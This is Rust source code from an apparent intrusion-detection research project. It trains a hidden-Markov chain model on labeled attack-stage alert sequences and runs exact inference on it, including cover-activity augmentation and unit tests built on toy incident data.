    /// Cover-activity rate: the assumed fraction of alerts emitted by an
    /// entity *during* an attack stage that are benign-shaped cover
    /// (interactive logins, job submissions — the incident corpora's
    /// annotation windows contain them, and the adversarial mutation
    /// engine plants them deliberately). The attack-stage emission rows
    /// are augmented with this much mass spread over the benign sessions'
    /// empirical kind distribution, so a single cover alert dilutes the
    /// posterior by a bounded factor instead of collapsing it — without
    /// this, interleaved benign activity is a perfect evasion. 0 disables.
    pub cover_rate: f64,
}

impl Default for TrainConfig {
    fn default() -> Self {
        TrainConfig {
            smoothing: 0.05,
            benign_weight: 1.0,
            gap: Some(GapTrainingConfig::default()),
            cover_rate: 0.15,
        }
    }
}

/// Train from an incident corpus plus benign sessions. With
/// [`TrainConfig::gap`] set (the default), the incidents' and benign
/// sessions' alert timestamps additionally train the per-stage gap-bin
/// emission tables attached to the returned model.
pub fn train(
    store: &IncidentStore,
    benign_sessions: &[Vec<Alert>],
    cfg: &TrainConfig,
) -> ChainModel {
    let mut learner = ChainLearner::new(Stage::COUNT, AlertKind::COUNT, cfg.smoothing);
    let mut gaps = cfg.gap.as_ref().map(|g| {
        GapLearner::new(Stage::COUNT, g.boundaries_secs.clone(), g.smoothing)
            .with_neutral_below(g.neutral_below_secs)
    });
    let observe_gaps = |gl: &mut GapLearner,
                        gcfg: &GapTrainingConfig,
                        alerts: &[Alert],
                        states: &[usize],
                        weight: f64,
                        augment: bool| {
        for t in 1..alerts.len() {
            let gap = alerts[t]
                .ts
                .saturating_since(alerts[t - 1].ts)
                .as_secs_f64();
            if augment {
                for &k in &gcfg.tempo_augmentation {
                    gl.observe_weighted(states[t], gap * k, weight);
                }
            } else {
                gl.observe_weighted(states[t], gap, weight);
            }
        }
    };
    for inc in store.iter() {
        let kinds = inc.kind_sequence();
        let stages = monotone_stage_labels(&kinds);
        let state_idx: Vec<usize> = stages.iter().map(|s| s.index()).collect();
        let obs_idx: Vec<usize> = kinds.iter().map(|k| k.index()).collect();
        learner.observe(&state_idx, &obs_idx);
        if let (Some(gl), Some(gcfg)) = (gaps.as_mut(), cfg.gap.as_ref()) {
            observe_gaps(gl, gcfg, &inc.alerts, &state_idx, 1.0, true);
        }
    }
    for session in benign_sessions {
        let obs_idx: Vec<usize> = session.iter().map(|a| a.kind.index()).collect();
        let state_idx = vec![Stage::Benign.index(); obs_idx.len()];
        learner.observe_weighted(&state_idx, &obs_idx, cfg.benign_weight);
        if let (Some(gl), Some(gcfg)) = (gaps.as_mut(), cfg.gap.as_ref()) {
            observe_gaps(gl, gcfg, session, &state_idx, cfg.benign_weight, false);
        }
    }
    if cfg.cover_rate > 0.0 {
        augment_cover_emissions(&mut learner, benign_sessions, cfg.cover_rate);
    }
    let model = learner.build();
    match (gaps, cfg.gap.as_ref()) {
        (Some(gl), Some(gcfg)) => model.with_gap_model(gl.build(gcfg.floor)),
        _ => model,
    }
}

/// Spread `rate` of each attack stage's emission mass over the benign
/// sessions' empirical kind distribution (see [`TrainConfig::cover_rate`]).
/// Only the in-attack stages (Foothold → Damage) are augmented: benign and
/// recon rows already see their own kind mixes in the labeled data.
fn augment_cover_emissions(learner: &mut ChainLearner, benign_sessions: &[Vec<Alert>], rate: f64) {
    assert!((0.0..1.0).contains(&rate), "cover rate must be in [0, 1)");
    let mut kind_counts = vec![0.0f64; AlertKind::COUNT];
    let mut total = 0.0f64;
    for session in benign_sessions {
        for a in session {
            kind_counts[a.kind.index()] += 1.0;
            total += 1.0;
        }
    }
    if total == 0.0 {
        return;
    }
    for stage in [
        Stage::Foothold,
        Stage::Escalation,
        Stage::Lateral,
        Stage::Damage,
    ] {
        let s = stage.index();
        // `cover = attack_mass · rate / (1 - rate)` makes cover kinds
        // `rate` of the augmented row.
        let cover_mass = learner.emission_weight(s) * rate / (1.0 - rate);
        if cover_mass <= 0.0 {
            continue;
        }
        for (k, &c) in kind_counts.iter().enumerate() {
            if c > 0.0 {
                learner.observe_emission(s, k, cover_mass * c / total);
            }
        }
    }
}

/// A small hand-built training corpus for unit tests and examples: a few
/// canonical attack progressions plus plentiful benign traffic. Produces a
/// model with the qualitative shape of the paper's detector.
pub fn toy_training_model() -> ChainModel {
    use alertlib::alert::Entity;
    use alertlib::store::{Incident, IncidentId};
    use simnet::time::SimTime;

    let mut store = IncidentStore::new();
    let mk = |kinds: &[AlertKind]| {
        let mut inc = Incident::new(IncidentId(0), "train", 2020);
        for (i, &k) in kinds.iter().enumerate() {
            inc.push_alert(Alert::new(
                SimTime::from_secs(i as u64),
                k,
                Entity::User("a".into()),
            ));
        }
        inc
    };
    use AlertKind::*;
    // Rootkit / S1 family.
    for _ in 0..6 {
        store.add(mk(&[
            PortScan,
            DownloadSensitive,
            CompileKernelModule,
            LogWipe,
            DataExfiltration,
        ]));
    }
    // Ransomware family (the §V case study shape).
    for _ in 0..6 {
        store.add(mk(&[
            RepeatedProbeDb,
            DefaultCredentialUse,
            DbVersionRecon,
            ElfMagicInDbBlob,
            LoExportExecution,
            FileDropTmp,
            SshKeyEnumeration,
            KnownHostsEnumeration,
            LateralMovementAttempt,
            C2Communication,
            MassFileEncryption,
        ]));
    }
    // Credential-theft family.
    for _ in 0..4 {
        store.add(mk(&[
            BruteForcePassword,
            StolenCredentialLogin,
            PasswordFileAccess,
            SshKeyEnumeration,
            InternalPivotLogin,
            SshKeyTheftConfirmed,
        ]));
    }
    // Cryptominer family.
    for _ in 0..3 {
        store.add(mk(&[
            VulnScan,
            RemoteCodeExecAttempt,
            DownloadBinaryUnknown,
            Base64DecodeExec,
            CryptominerDeployed,
        ]));
    }
    // Known-malware smash-and-grab.
    for _ in 0..3 {
        store.add(mk(&[
            KnownMalwareDownload,
            ReverseShellPattern,
            PrivilegeEscalation,
        ]));
    }
    // Scan-only campaigns that never escalate — Remark 2: most attempts
    // fail. Without these, the transition prior alone would carry any
    // post-scan alert into Foothold (a false-positive machine).
    for _ in 0..12 {
        store.add(mk(&[
            PortScan,
            AddressSweep,
            VulnScan,
            PortScan,
            RepeatedProbeDb,
        ]));
        store.add(mk(&[
            AddressSweep,
            BruteForcePassword,
            BruteForcePassword,
            PortScan,
        ]));
    }

    // Benign sessions: logins, jobs, compiles, transfers.
    let benign_kinds: &[&[AlertKind]] = &[
        &[LoginSuccess, JobSubmit, JobSubmit, FileTransfer],
        &[LoginSuccess, CompileSource, JobSubmit],
        &[LoginSuccess, SoftwareInstall, FileTransfer, JobSubmit],
        &[LoginSuccess, LoginFailed, LoginSuccess, JobSubmit],
        &[LoginUnusualHour, JobSubmit, FileTransfer],
    ];
    let mut benign = Vec::new();
    for _ in 0..8 {
        for seq in benign_kinds {
            let session: Vec<Alert> = seq
                .iter()
                .enumerate()
                .map(|(i, &k)| {
                    Alert::new(SimTime::from_secs(i as u64), k, Entity::User("b".into()))
                })
                .collect();
            benign.push(session);
        }
    }
    train(&store, &benign, &TrainConfig::default())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn trained_model_carries_gap_tables() {
        let m = toy_training_model();
        let gap = m.gap_model().expect("default training attaches gaps");
        assert_eq!(gap.n_states(), Stage::COUNT);
        assert_eq!(gap.n_bins(), 6);
        assert_eq!(gap.neutral_below_secs(), 60.0);
        // Every row is a distribution with the uniform floor in force.
        let floor = GapTrainingConfig::default().floor / gap.n_bins() as f64;
        for s in 0..Stage::COUNT {
            let row: Vec<f64> = (0..gap.n_bins()).map(|b| gap.emit(s, b)).collect();
            let sum: f64 = row.iter().sum();
            assert!((sum - 1.0).abs() < 1e-9, "stage {s} row sums to {sum}");
            assert!(row.iter().all(|&x| x >= floor - 1e-12));
        }
    }

    #[test]
    fn gap_none_training_is_order_only() {
        use alertlib::alert::Entity;
        use alertlib::store::{Incident, IncidentId};
        use simnet::time::SimTime;
        let mut store = IncidentStore::new();
        let mut inc = Incident::new(IncidentId(0), "t", 2020);
        for (i, k) in [AlertKind::PortScan, AlertKind::LogWipe].iter().enumerate() {
            inc.push_alert(Alert::new(
                SimTime::from_secs(i as u64),
                *k,
                Entity::User("a".into()),
            ));
        }
        store.add(inc);
        let m = train(
            &store,
            &[],
            &TrainConfig {
                gap: None,
                ..TrainConfig::default()
            },
        );
        assert!(m.gap_model().is_none());
    }

    /// Cover augmentation bounds the dilution a single benign-shaped
    /// alert can inflict mid-attack: the emission odds against the attack
    /// stages drop from catastrophic to bounded, while a model trained
    /// without cover keeps near-zero benign-kind mass in attack rows.
    #[test]
    fn cover_rate_bounds_benign_kind_dilution() {
        use alertlib::alert::Entity;
        use simnet::time::SimTime;
        let store = {
            let mut s = alertlib::store::IncidentStore::new();
            let mut inc = alertlib::store::Incident::new(alertlib::store::IncidentId(0), "t", 2020);
            for (i, k) in [
                AlertKind::DownloadSensitive,
                AlertKind::CompileKernelModule,
                AlertKind::LogWipe,
            ]
            .iter()
            .enumerate()
            {
                inc.push_alert(Alert::new(
                    SimTime::from_secs(i as u64 * 100),
                    *k,
                    Entity::User("a".into()),
                ));
            }
            s.add(inc);
            s
        };
        let benign = vec![vec![
            Alert::new(
                SimTime::from_secs(0),
                AlertKind::LoginSuccess,
                Entity::User("b".into()),
            ),
            Alert::new(
                SimTime::from_secs(60),
                AlertKind::JobSubmit,
                Entity::User("b".into()),
            ),
        ]];
        let without = train(
            &store,
            &benign,
            &TrainConfig {
                cover_rate: 0.0,
                ..TrainConfig::default()
            },
        );
        let with = train(
            &store,
            &benign,
            &TrainConfig {
                cover_rate: 0.2,
                ..TrainConfig::default()
            },
        );
        let s = Stage::Escalation.index();
        let k = AlertKind::LoginSuccess.index();
        assert!(
            with.emit(s, k) > 3.0 * without.emit(s, k),
            "cover training must lift benign-kind mass in attack rows: {} vs {}",
            with.emit(s, k),
            without.emit(s, k)
        );
        // The augmentation is rate-bounded: benign kinds take ~the cover
        // rate of the row, not the row.
        let cover_mass: f64 = [AlertKind::LoginSuccess, AlertKind::JobSubmit]
            .iter()
            .map(|k| with.emit(s, k.index()))
            .sum();
        assert!(
            cover_mass < 0.3,
            "cover mass stays near the configured rate: {cover_mass}"
        );
    }

    #[test]
    fn toy_model_shapes() {
        let m = toy_training_model();
        assert_eq!(m.n_states(), Stage::COUNT);
        assert_eq!(m.n_obs(), AlertKind::COUNT);
        // Benign state strongly emits logins.
        assert!(
            m.emit(Stage::Benign.index(), AlertKind::LoginSuccess.index())
                > m.emit(Stage::Benign.index(), AlertKind::LogWipe.index())
        );
        // Foothold state emits download-sensitive far more than benign does.
        assert!(
            m.emit(
                Stage::Foothold.index(),
                AlertKind::DownloadSensitive.index()
            ) > 10.0 * m.emit(Stage::Benign.index(), AlertKind::DownloadSensitive.index())
        );
    }

    #[test]
    fn transitions_progress_forward() {
        let m = toy_training_model();
        // From foothold, staying or escalating dominates regressing.
        let stay_or_up: f64 = (Stage::Foothold.index()..Stage::COUNT)
            .map(|to| m.trans(Stage::Foothold.index(), to))
            .sum();
        assert!(stay_or_up > 0.8, "got {stay_or_up}");
    }

    #[test]
    fn filtering_separates_attack_from_benign() {
        let m = toy_training_model();
        use AlertKind::*;
        let attack: Vec<usize> = [DownloadSensitive, CompileKernelModule]
            .iter()
            .map(|k| k.index())
            .collect();
        let benign: Vec<usize> = [LoginSuccess, JobSubmit]
            .iter()
            .map(|k| k.index())
            .collect();
        let (a, _) = m.filter(&attack);
        let (b, _) = m.filter(&benign);
        let attack_mass = |p: &[f64]| {
            p[Stage::Foothold.index()] + p[Stage::Escalation.index()] + p[Stage::Lateral.index()]
        };
        assert!(attack_mass(&a[1]) > 0.8);
        assert!(attack_mass(&b[1]) < 0.2);
    }
}
