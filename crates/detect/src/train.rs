//! Training the AttackTagger model from labeled incidents.
//!
//! Supervised maximum-likelihood over the annotated corpus (§II-A): each
//! incident's alert-kind sequence is labeled with monotone attack stages;
//! benign sessions contribute the "normal operational conditions" side of
//! Remark 2's conditional probabilities. Laplace smoothing keeps unseen
//! alert kinds from zeroing posteriors, which is what lets the model
//! generalize "to unseen attacks".

use alertlib::alert::Alert;
use alertlib::store::IncidentStore;
use alertlib::taxonomy::AlertKind;
use factorgraph::chain::ChainModel;
use factorgraph::learn::ChainLearner;

use crate::stage::{monotone_stage_labels, Stage};

/// Training configuration.
#[derive(Debug, Clone)]
pub struct TrainConfig {
    /// Laplace smoothing constant.
    pub smoothing: f64,
    /// Weight applied to benign sessions relative to incidents. Benign
    /// traffic vastly outnumbers attacks in the wild; the model should see
    /// that imbalance.
    pub benign_weight: f64,
}

impl Default for TrainConfig {
    fn default() -> Self {
        TrainConfig {
            smoothing: 0.05,
            benign_weight: 1.0,
        }
    }
}

/// Train from an incident corpus plus benign sessions.
pub fn train(
    store: &IncidentStore,
    benign_sessions: &[Vec<Alert>],
    cfg: &TrainConfig,
) -> ChainModel {
    let mut learner = ChainLearner::new(Stage::COUNT, AlertKind::COUNT, cfg.smoothing);
    for inc in store.iter() {
        let kinds = inc.kind_sequence();
        let stages = monotone_stage_labels(&kinds);
        let state_idx: Vec<usize> = stages.iter().map(|s| s.index()).collect();
        let obs_idx: Vec<usize> = kinds.iter().map(|k| k.index()).collect();
        learner.observe(&state_idx, &obs_idx);
    }
    for session in benign_sessions {
        let obs_idx: Vec<usize> = session.iter().map(|a| a.kind.index()).collect();
        let state_idx = vec![Stage::Benign.index(); obs_idx.len()];
        learner.observe_weighted(&state_idx, &obs_idx, cfg.benign_weight);
    }
    learner.build()
}

/// A small hand-built training corpus for unit tests and examples: a few
/// canonical attack progressions plus plentiful benign traffic. Produces a
/// model with the qualitative shape of the paper's detector.
pub fn toy_training_model() -> ChainModel {
    use alertlib::alert::Entity;
    use alertlib::store::{Incident, IncidentId};
    use simnet::time::SimTime;

    let mut store = IncidentStore::new();
    let mk = |kinds: &[AlertKind]| {
        let mut inc = Incident::new(IncidentId(0), "train", 2020);
        for (i, &k) in kinds.iter().enumerate() {
            inc.push_alert(Alert::new(
                SimTime::from_secs(i as u64),
                k,
                Entity::User("a".into()),
            ));
        }
        inc
    };
    use AlertKind::*;
    // Rootkit / S1 family.
    for _ in 0..6 {
        store.add(mk(&[
            PortScan,
            DownloadSensitive,
            CompileKernelModule,
            LogWipe,
            DataExfiltration,
        ]));
    }
    // Ransomware family (the §V case study shape).
    for _ in 0..6 {
        store.add(mk(&[
            RepeatedProbeDb,
            DefaultCredentialUse,
            DbVersionRecon,
            ElfMagicInDbBlob,
            LoExportExecution,
            FileDropTmp,
            SshKeyEnumeration,
            KnownHostsEnumeration,
            LateralMovementAttempt,
            C2Communication,
            MassFileEncryption,
        ]));
    }
    // Credential-theft family.
    for _ in 0..4 {
        store.add(mk(&[
            BruteForcePassword,
            StolenCredentialLogin,
            PasswordFileAccess,
            SshKeyEnumeration,
            InternalPivotLogin,
            SshKeyTheftConfirmed,
        ]));
    }
    // Cryptominer family.
    for _ in 0..3 {
        store.add(mk(&[
            VulnScan,
            RemoteCodeExecAttempt,
            DownloadBinaryUnknown,
            Base64DecodeExec,
            CryptominerDeployed,
        ]));
    }
    // Known-malware smash-and-grab.
    for _ in 0..3 {
        store.add(mk(&[
            KnownMalwareDownload,
            ReverseShellPattern,
            PrivilegeEscalation,
        ]));
    }
    // Scan-only campaigns that never escalate — Remark 2: most attempts
    // fail. Without these, the transition prior alone would carry any
    // post-scan alert into Foothold (a false-positive machine).
    for _ in 0..12 {
        store.add(mk(&[
            PortScan,
            AddressSweep,
            VulnScan,
            PortScan,
            RepeatedProbeDb,
        ]));
        store.add(mk(&[
            AddressSweep,
            BruteForcePassword,
            BruteForcePassword,
            PortScan,
        ]));
    }

    // Benign sessions: logins, jobs, compiles, transfers.
    let benign_kinds: &[&[AlertKind]] = &[
        &[LoginSuccess, JobSubmit, JobSubmit, FileTransfer],
        &[LoginSuccess, CompileSource, JobSubmit],
        &[LoginSuccess, SoftwareInstall, FileTransfer, JobSubmit],
        &[LoginSuccess, LoginFailed, LoginSuccess, JobSubmit],
        &[LoginUnusualHour, JobSubmit, FileTransfer],
    ];
    let mut benign = Vec::new();
    for _ in 0..8 {
        for seq in benign_kinds {
            let session: Vec<Alert> = seq
                .iter()
                .enumerate()
                .map(|(i, &k)| {
                    Alert::new(SimTime::from_secs(i as u64), k, Entity::User("b".into()))
                })
                .collect();
            benign.push(session);
        }
    }
    train(&store, &benign, &TrainConfig::default())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn toy_model_shapes() {
        let m = toy_training_model();
        assert_eq!(m.n_states(), Stage::COUNT);
        assert_eq!(m.n_obs(), AlertKind::COUNT);
        // Benign state strongly emits logins.
        assert!(
            m.emit(Stage::Benign.index(), AlertKind::LoginSuccess.index())
                > m.emit(Stage::Benign.index(), AlertKind::LogWipe.index())
        );
        // Foothold state emits download-sensitive far more than benign does.
        assert!(
            m.emit(
                Stage::Foothold.index(),
                AlertKind::DownloadSensitive.index()
            ) > 10.0 * m.emit(Stage::Benign.index(), AlertKind::DownloadSensitive.index())
        );
    }

    #[test]
    fn transitions_progress_forward() {
        let m = toy_training_model();
        // From foothold, staying or escalating dominates regressing.
        let stay_or_up: f64 = (Stage::Foothold.index()..Stage::COUNT)
            .map(|to| m.trans(Stage::Foothold.index(), to))
            .sum();
        assert!(stay_or_up > 0.8, "got {stay_or_up}");
    }

    #[test]
    fn filtering_separates_attack_from_benign() {
        let m = toy_training_model();
        use AlertKind::*;
        let attack: Vec<usize> = [DownloadSensitive, CompileKernelModule]
            .iter()
            .map(|k| k.index())
            .collect();
        let benign: Vec<usize> = [LoginSuccess, JobSubmit]
            .iter()
            .map(|k| k.index())
            .collect();
        let (a, _) = m.filter(&attack);
        let (b, _) = m.filter(&benign);
        let attack_mass = |p: &[f64]| {
            p[Stage::Foothold.index()] + p[Stage::Escalation.index()] + p[Stage::Lateral.index()]
        };
        assert!(attack_mass(&a[1]) > 0.8);
        assert!(attack_mass(&b[1]) < 0.2);
    }
}
