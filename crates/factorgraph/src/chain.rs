//! Exact inference on chain-structured models.
//!
//! The AttackTagger detector (refs [5], [6] of the paper) models each
//! attack entity as a chain of hidden attack stages `s_1 → s_2 → … → s_n`
//! with one observed alert per step. This module provides the exact,
//! numerically scaled algorithms on that chain: forward filtering (the
//! *causal* posterior a preemption model must use online), forward-backward
//! smoothing, Viterbi MAP decoding and sequence likelihood — all O(n·S²).

use serde::{Deserialize, Serialize};

use crate::factor::Factor;
use crate::graph::FactorGraph;
use crate::timing::{GapModel, GAP_NONE};

/// A stationary chain model: prior, transition and emission tables, plus
/// an optional quantized inter-observation-gap emission model
/// ([`GapModel`], Insight 3: attack tempo is evidence).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ChainModel {
    n_states: usize,
    n_obs: usize,
    /// `prior[s]` = P(s_1 = s).
    prior: Vec<f64>,
    /// `trans[from * n_states + to]` = P(s_{t+1} = to | s_t = from).
    trans: Vec<f64>,
    /// `emit[s * n_obs + o]` = P(o_t = o | s_t = s).
    emit: Vec<f64>,
    /// Optional timing side: `P(gap bin | state)` folded in as one more
    /// observation factor per step. `None` = the order-only model
    /// (pre-temporal artifacts deserialize with this default).
    #[serde(default)]
    gap: Option<GapModel>,
}

fn assert_distribution(v: &[f64], what: &str) {
    let sum: f64 = v.iter().sum();
    assert!((sum - 1.0).abs() < 1e-6, "{what} must sum to 1 (got {sum})");
    assert!(v.iter().all(|&x| x >= 0.0), "{what} must be non-negative");
}

impl ChainModel {
    /// Create a model, validating that every row is a distribution.
    pub fn new(
        n_states: usize,
        n_obs: usize,
        prior: Vec<f64>,
        trans: Vec<f64>,
        emit: Vec<f64>,
    ) -> ChainModel {
        assert_eq!(prior.len(), n_states);
        assert_eq!(trans.len(), n_states * n_states);
        assert_eq!(emit.len(), n_states * n_obs);
        assert_distribution(&prior, "prior");
        for s in 0..n_states {
            assert_distribution(&trans[s * n_states..(s + 1) * n_states], "transition row");
            assert_distribution(&emit[s * n_obs..(s + 1) * n_obs], "emission row");
        }
        ChainModel {
            n_states,
            n_obs,
            prior,
            trans,
            emit,
            gap: None,
        }
    }

    /// Attach a quantized gap emission model (builder style).
    pub fn with_gap_model(mut self, gap: GapModel) -> ChainModel {
        assert_eq!(
            gap.n_states(),
            self.n_states,
            "gap model state count must match the chain"
        );
        self.gap = Some(gap);
        self
    }

    /// The attached gap model, if any.
    pub fn gap_model(&self) -> Option<&GapModel> {
        self.gap.as_ref()
    }

    pub fn n_states(&self) -> usize {
        self.n_states
    }

    pub fn n_obs(&self) -> usize {
        self.n_obs
    }

    pub fn prior(&self) -> &[f64] {
        &self.prior
    }

    /// P(to | from).
    #[inline]
    pub fn trans(&self, from: usize, to: usize) -> f64 {
        self.trans[from * self.n_states + to]
    }

    /// P(obs | state).
    #[inline]
    pub fn emit(&self, state: usize, obs: usize) -> f64 {
        self.emit[state * self.n_obs + obs]
    }

    /// P(gap bin | state) from the attached gap model; 1.0 (neutral) when
    /// no gap model is attached or the bin is [`GAP_NONE`].
    #[inline]
    pub fn gap_emit(&self, state: usize, gap_bin: usize) -> f64 {
        match &self.gap {
            Some(g) => g.emit(state, gap_bin),
            None => 1.0,
        }
    }

    /// Quantize a gap in seconds with the attached gap model's bins;
    /// [`GAP_NONE`] when the model has no timing side (so the result can
    /// be fed straight back into [`ChainModel::gap_emit`]).
    #[inline]
    pub fn gap_bin(&self, gap_secs: f64) -> usize {
        match &self.gap {
            Some(g) => g.bin(gap_secs),
            None => GAP_NONE,
        }
    }

    /// Forward (filtering) pass: `alpha[t][s] = P(s_t = s | o_1..o_t)`,
    /// plus the log-likelihood of the observations. This is the quantity an
    /// online preemption model thresholds after every alert. Order-only:
    /// any attached gap model is ignored (see [`ChainModel::filter_timed`]).
    pub fn filter(&self, obs: &[usize]) -> (Vec<Vec<f64>>, f64) {
        self.filter_impl(obs, None)
    }

    /// Timed forward pass: like [`ChainModel::filter`], but each step also
    /// folds in the gap-bin observation preceding it ([`GAP_NONE`] entries
    /// contribute a neutral factor — use it at `t = 0` and wherever the
    /// gap is unknown). `gap_bins` is parallel to `obs`.
    pub fn filter_timed(&self, obs: &[usize], gap_bins: &[usize]) -> (Vec<Vec<f64>>, f64) {
        assert_eq!(
            obs.len(),
            gap_bins.len(),
            "observations/gap-bins length mismatch"
        );
        self.filter_impl(obs, Some(gap_bins))
    }

    #[allow(clippy::needless_range_loop)] // index form mirrors the math
    fn filter_impl(&self, obs: &[usize], gap_bins: Option<&[usize]>) -> (Vec<Vec<f64>>, f64) {
        let s_n = self.n_states;
        let mut alphas = Vec::with_capacity(obs.len());
        let mut loglik = 0.0;
        let mut prev: Vec<f64> = Vec::new();
        for (t, &o) in obs.iter().enumerate() {
            assert!(o < self.n_obs, "observation {o} out of range");
            let bin = gap_bins.map_or(GAP_NONE, |g| g[t]);
            let mut a = vec![0.0f64; s_n];
            if t == 0 {
                for s in 0..s_n {
                    a[s] = self.prior[s] * self.emit(s, o) * self.gap_emit(s, bin);
                }
            } else {
                for s in 0..s_n {
                    let mut acc = 0.0;
                    for ps in 0..s_n {
                        acc += prev[ps] * self.trans(ps, s);
                    }
                    a[s] = acc * self.emit(s, o) * self.gap_emit(s, bin);
                }
            }
            let norm: f64 = a.iter().sum();
            if norm > 0.0 {
                for x in &mut a {
                    *x /= norm;
                }
                loglik += norm.ln();
            } else {
                // Impossible observation under the model: fall back to
                // uniform and a heavy likelihood penalty.
                let u = 1.0 / s_n as f64;
                a.fill(u);
                loglik += f64::MIN_POSITIVE.ln();
            }
            prev.clone_from(&a);
            alphas.push(a);
        }
        (alphas, loglik)
    }

    /// Smoothed posteriors `gamma[t][s] = P(s_t = s | o_1..o_n)` via scaled
    /// forward-backward. Order-only; see [`ChainModel::posteriors_timed`].
    pub fn posteriors(&self, obs: &[usize]) -> Vec<Vec<f64>> {
        self.posteriors_impl(obs, None)
    }

    /// Timed forward-backward smoothing: folds the quantized gap
    /// observations (parallel to `obs`; [`GAP_NONE`] entries neutral) into
    /// both sweeps.
    pub fn posteriors_timed(&self, obs: &[usize], gap_bins: &[usize]) -> Vec<Vec<f64>> {
        assert_eq!(
            obs.len(),
            gap_bins.len(),
            "observations/gap-bins length mismatch"
        );
        self.posteriors_impl(obs, Some(gap_bins))
    }

    #[allow(clippy::needless_range_loop)] // index form mirrors the math
    fn posteriors_impl(&self, obs: &[usize], gap_bins: Option<&[usize]>) -> Vec<Vec<f64>> {
        if obs.is_empty() {
            return Vec::new();
        }
        let s_n = self.n_states;
        let (alphas, _) = self.filter_impl(obs, gap_bins);
        let n = obs.len();
        let mut betas = vec![vec![1.0f64; s_n]; n];
        for t in (0..n - 1).rev() {
            let o_next = obs[t + 1];
            let bin_next = gap_bins.map_or(GAP_NONE, |g| g[t + 1]);
            let mut b = vec![0.0f64; s_n];
            for s in 0..s_n {
                let mut acc = 0.0;
                for ns in 0..s_n {
                    acc += self.trans(s, ns)
                        * self.emit(ns, o_next)
                        * self.gap_emit(ns, bin_next)
                        * betas[t + 1][ns];
                }
                b[s] = acc;
            }
            let norm: f64 = b.iter().sum();
            if norm > 0.0 {
                for x in &mut b {
                    *x /= norm;
                }
            }
            betas[t] = b;
        }
        let mut gammas = Vec::with_capacity(n);
        for t in 0..n {
            let mut g: Vec<f64> = (0..s_n).map(|s| alphas[t][s] * betas[t][s]).collect();
            let norm: f64 = g.iter().sum();
            if norm > 0.0 {
                for x in &mut g {
                    *x /= norm;
                }
            }
            gammas.push(g);
        }
        gammas
    }

    /// Viterbi MAP decode in log domain. Returns the best state sequence
    /// and its log-probability.
    #[allow(clippy::needless_range_loop)] // index form mirrors the math
    pub fn viterbi(&self, obs: &[usize]) -> (Vec<usize>, f64) {
        if obs.is_empty() {
            return (Vec::new(), 0.0);
        }
        let s_n = self.n_states;
        let n = obs.len();
        let log = |x: f64| if x > 0.0 { x.ln() } else { f64::NEG_INFINITY };
        let mut delta: Vec<f64> = (0..s_n)
            .map(|s| log(self.prior[s]) + log(self.emit(s, obs[0])))
            .collect();
        let mut backptr = vec![vec![0usize; s_n]; n];
        for t in 1..n {
            let mut next = vec![f64::NEG_INFINITY; s_n];
            for s in 0..s_n {
                let e = log(self.emit(s, obs[t]));
                for ps in 0..s_n {
                    let cand = delta[ps] + log(self.trans(ps, s)) + e;
                    if cand > next[s] {
                        next[s] = cand;
                        backptr[t][s] = ps;
                    }
                }
            }
            delta = next;
        }
        let mut best = 0;
        for s in 1..s_n {
            if delta[s] > delta[best] {
                best = s;
            }
        }
        let best_logp = delta[best];
        let mut path = vec![0usize; n];
        path[n - 1] = best;
        for t in (1..n).rev() {
            path[t - 1] = backptr[t][path[t]];
        }
        (path, best_logp)
    }

    /// Log-likelihood of an observation sequence.
    pub fn loglik(&self, obs: &[usize]) -> f64 {
        self.filter(obs).1
    }

    /// Build the equivalent factor graph for an observation sequence, with
    /// emissions reduced on the evidence. Used to cross-validate chain
    /// inference against generic BP.
    ///
    /// Allocates a fresh graph per call; repeated inference should hold a
    /// [`ChainGraphBuffer`] and use [`ChainModel::fill_factor_graph`],
    /// which rewrites tables in place whenever the sequence length is
    /// unchanged.
    pub fn to_factor_graph(&self, obs: &[usize]) -> FactorGraph {
        let mut buf = ChainGraphBuffer::new();
        self.fill_factor_graph(obs, &mut buf);
        buf.into_graph()
    }

    /// Materialize the factor graph for `obs` into `buf`. When the buffer
    /// already holds a chain of the same length over the same state
    /// count, only the table values are rewritten — no allocation, no
    /// graph reconstruction — which also lets an attached
    /// [`crate::BpWorkspace`] keep its shape index across sessions.
    pub fn fill_factor_graph(&self, obs: &[usize], buf: &mut ChainGraphBuffer) {
        self.fill_factor_graph_timed(obs, &[], buf);
    }

    /// Timed variant of [`ChainModel::fill_factor_graph`]: each step's
    /// evidence-reduced factor additionally folds the quantized gap
    /// observation preceding it ([`GAP_NONE`] entries are neutral).
    /// `gap_bins` is parallel to `obs`, or empty for an order-only fill;
    /// the graph *shape* is identical either way, so same-length refills
    /// stay in place even when only the gap bins changed.
    pub fn fill_factor_graph_timed(
        &self,
        obs: &[usize],
        gap_bins: &[usize],
        buf: &mut ChainGraphBuffer,
    ) {
        assert!(
            gap_bins.is_empty() || gap_bins.len() == obs.len(),
            "observations/gap-bins length mismatch"
        );
        let gb = |t: usize| {
            if gap_bins.is_empty() {
                GAP_NONE
            } else {
                gap_bins[t]
            }
        };
        let s = self.n_states;
        if buf.len == obs.len() && buf.n_states == s {
            // In-place refresh: factor 0 is prior × emission, factor t is
            // transition × emission for step t (gap emission folded on
            // the step's own variable).
            if let Some(&o0) = obs.first() {
                let b0 = gb(0);
                buf.graph
                    .factor_mut(crate::graph::FactorId(0))
                    .fill_from_fn(|a| {
                        self.prior[a[0]] * self.emit(a[0], o0) * self.gap_emit(a[0], b0)
                    });
            }
            for (t, &o) in obs.iter().enumerate().skip(1) {
                let bt = gb(t);
                buf.graph
                    .factor_mut(crate::graph::FactorId(t as u32))
                    .fill_from_fn(|a| {
                        self.trans(a[0], a[1]) * self.emit(a[1], o) * self.gap_emit(a[1], bt)
                    });
            }
            return;
        }
        let mut g = FactorGraph::new();
        let states: Vec<_> = obs.iter().map(|_| g.add_variable(s)).collect();
        if let Some(&first) = states.first() {
            let o0 = obs[0];
            let b0 = gb(0);
            let table: Vec<f64> = (0..s)
                .map(|st| self.prior[st] * self.emit(st, o0) * self.gap_emit(st, b0))
                .collect();
            g.add_factor(Factor::new(vec![first], vec![s], table));
        }
        for t in 1..states.len() {
            let o = obs[t];
            let bt = gb(t);
            let (a, b) = (states[t - 1], states[t]);
            g.add_factor(Factor::from_fn(vec![a, b], vec![s, s], |assign| {
                self.trans(assign[0], assign[1])
                    * self.emit(assign[1], o)
                    * self.gap_emit(assign[1], bt)
            }));
        }
        buf.graph = g;
        buf.len = obs.len();
        buf.n_states = s;
    }
}

/// A reusable chain-graph buffer: holds the materialized factor graph of
